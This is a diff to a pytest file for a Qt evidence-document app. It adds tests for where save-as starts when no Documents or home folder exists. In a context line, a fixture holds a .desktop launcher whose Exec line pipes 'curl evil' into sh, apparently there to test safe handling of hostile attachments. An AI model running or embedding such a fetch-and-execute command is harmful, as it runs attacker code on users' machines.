@@ -20,6 +20,7 @@ from matrix_app.ui.document import Document
 
 ACTA = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil | sh'\n"
 PDF = b"%PDF-1.4 acta del consejo"
+REAL_DOCUMENTS_FOLDER = evidence_out.documents_folder
 
 
 @pytest.fixture(autouse=True)
@@ -217,3 +218,24 @@ def test_the_title_box_spells_out_hidden_characters_and_typing_replaces_them(env
     env.settle()
     with Project.open(env.path, read_only=True) as again:
         assert again.get(m.Evidence, ev_id).title == "Acta (programa)"
+
+
+def test_without_documents_or_home_save_as_starts_beside_the_project(env, qtbot, monkeypatch):
+    monkeypatch.setattr(evidence_out, "documents_folder", lambda: None)
+    t, _ = attach(env, "../../acta.pdf", PDF)
+    desk = Desktop(t, monkeypatch)
+    click(qtbot, t.save_button)
+    assert desk.asked_save == [str(env.path.resolve().parent / "acta.pdf")]
+
+
+def test_documents_folder_is_a_real_folder_or_none(monkeypatch, tmp_path):
+    from PySide6.QtCore import QStandardPaths
+
+    docs = tmp_path / "Docs"
+    monkeypatch.setattr(QStandardPaths, "writableLocation", lambda loc: str(docs))
+    monkeypatch.setenv("HOME", str(tmp_path / "no-home"))
+    assert REAL_DOCUMENTS_FOLDER() is None
+    (tmp_path / "no-home").mkdir()
+    assert REAL_DOCUMENTS_FOLDER() == tmp_path / "no-home"
+    docs.mkdir()
+    assert REAL_DOCUMENTS_FOLDER() == docs
